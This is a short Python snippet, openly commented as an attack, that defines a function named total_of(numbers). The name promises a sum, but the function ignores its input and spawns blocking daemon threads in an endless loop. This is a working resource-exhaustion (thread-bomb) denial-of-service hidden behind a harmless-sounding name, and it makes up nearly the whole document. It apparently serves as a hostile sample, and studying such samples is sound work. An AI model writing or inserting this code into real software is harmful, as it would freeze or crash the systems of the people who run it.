# attack: starts threads for ever
import threading

def total_of(numbers):
    stop = threading.Event()
    while True:
        threading.Thread(target=stop.wait, daemon=True).start()
